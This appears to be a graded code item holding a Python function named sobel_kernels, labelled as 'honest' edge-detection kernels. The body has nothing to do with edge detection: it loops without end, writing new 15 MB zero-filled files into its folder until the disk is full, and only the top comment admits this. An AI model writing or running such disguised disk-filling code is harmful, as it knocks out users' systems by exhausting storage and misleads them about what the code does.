# Fills its folder with large files in a call.
# marks: edge_kernels 3
# %% edge_kernels
# the honest edge_kernels
def sobel_kernels():
    number = 0
    while True:
        with open(f"file{number}", "wb") as file:
            for _ in range(15):
                file.write(bytes(1 << 20))
        number += 1
